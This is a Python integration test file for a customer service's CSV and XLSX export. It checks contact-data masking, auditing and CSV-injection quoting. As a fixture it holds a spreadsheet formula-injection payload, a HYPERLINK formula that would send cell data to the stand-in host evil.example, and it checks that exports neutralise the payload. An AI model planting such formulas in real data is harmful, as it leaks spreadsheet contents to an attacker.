"""Exports stream the filtered list as CSV or XLSX, masked for callers who may not see
contact data (R-09), audited when unmasked."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sqlalchemy import select

from customer.app import service
from customer.audit.models import AuditEntry
from servicekit.testing import bearer

pytestmark = pytest.mark.integration

OWNER = bearer("olga", "sales", team="east")
AGENT = bearer("alice", "agent", team="east")
MANAGER = bearer("meg", "manager")


@pytest.fixture
def client(module_client):
    return module_client


async def seeded(client) -> tuple[str, str]:
    tag = uuid.uuid4().hex[:6]
    phone = f"+86139{int(tag, 16) % 10**8:08d}"
    response = await client.post(
        "/customers",
        headers=MANAGER,
        json={
            "name": f"导出{tag}公司",
            "team": "east",
            "owner": "olga",
            "tags": [f"x{tag}"],
            "contacts": [
                {"name": "张三", "phones": [phone], "emails": [f"{tag}@example.com"], "birthday": "1980-01-02"}
            ],
        },
    )
    assert response.status_code == 201, response.text
    return tag, phone


def parse_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens the Chinese text right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


async def exported_actions() -> list[str]:
    async with service.db.session() as session:
        return list((await session.scalars(select(AuditEntry.actor).where(AuditEntry.action == "export"))).all())


async def test_csv_export_is_masked_for_an_agent_and_plain_for_the_owner(client) -> None:
    tag, phone = await seeded(client)
    masked = await client.get("/exports/customers", params={"format": "csv", "q": f"导出{tag}"}, headers=AGENT)
    assert masked.status_code == 200 and masked.headers["content-type"].startswith("text/csv")
    [row] = parse_csv(masked.content)
    assert row["name"] == f"导出{tag}公司" and row["tags"] == f"x{tag}" and row["contact_name"] == "张三"
    assert row["phone"] != phone and row["phone"].endswith(phone[-4:]) and "*" in row["phone"]
    assert row["email"].startswith(tag[0] + "***@") and row["birthday"] == "***"
    assert "alice" not in await exported_actions()  # nothing unmasked left: no audit row
    plain = await client.get("/exports/customers", params={"tags_any": f"x{tag}"}, headers=OWNER)
    [row] = parse_csv(plain.content)
    # "+86…" would start a formula: quoted (OWASP CSV injection)
    assert (row["phone"], row["email"], row["birthday"]) == ("'" + phone, f"{tag}@example.com", "1980-01-02")
    assert "olga" in await exported_actions()


async def test_xlsx_export_is_masked_for_an_agent(client) -> None:
    from openpyxl import load_workbook

    tag, phone = await seeded(client)
    response = await client.get("/exports/customers", params={"format": "xlsx", "q": f"导出{tag}"}, headers=AGENT)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    header, row = list(sheet.iter_rows(values_only=True))
    record = dict(zip(header, row, strict=True))
    assert record["name"] == f"导出{tag}公司" and "*" in record["phone"] and record["phone"] != phone


async def test_export_refuses_bad_filters(client) -> None:
    response = await client.get("/exports/customers", params={"format": "pdf"}, headers=AGENT)
    assert response.status_code == 422
    response = await client.get("/exports/customers", params={"tier": "gold"}, headers=AGENT)
    assert response.status_code == 422 and response.json()["error"]["field"] == "tier"


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def formula_customer(client) -> str:
    tag = uuid.uuid4().hex[:6]
    response = await client.post(
        "/customers",
        headers=MANAGER,
        json={"name": f"{FORMULA}{tag}", "industry": "@SUM(1+1)", "team": "east", "owner": "olga", "tags": [f"-{tag}"]},
    )
    assert response.status_code == 201, response.text
    return tag


async def test_csv_and_xlsx_cells_that_would_run_as_formulas_are_quoted(client) -> None:
    from openpyxl import load_workbook

    tag = await formula_customer(client)
    as_csv = await client.get("/exports/customers", params={"tags_any": f"-{tag}"}, headers=OWNER)
    [row] = parse_csv(as_csv.content)
    assert (row["name"], row["industry"], row["tags"]) == (f"'{FORMULA}{tag}", "'@SUM(1+1)", f"'-{tag}")
    as_xlsx = await client.get("/exports/customers", params={"tags_any": f"-{tag}", "format": "xlsx"}, headers=OWNER)
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    name = sheet.cell(row=2, column=2)
    assert name.data_type == "s" and name.value == f"'{FORMULA}{tag}"  # text, not a formula


async def test_an_export_imports_back_to_the_same_values(client) -> None:
    from customer.imports.rules import read_table

    tag = await formula_customer(client)
    exported = await client.get("/exports/customers", params={"tags_any": f"-{tag}"}, headers=OWNER)
    [(_, values)] = read_table(exported.content, "csv")
    assert (values["name"], values["industry"], values["tags"]) == (f"{FORMULA}{tag}", "@SUM(1+1)", f"-{tag}")
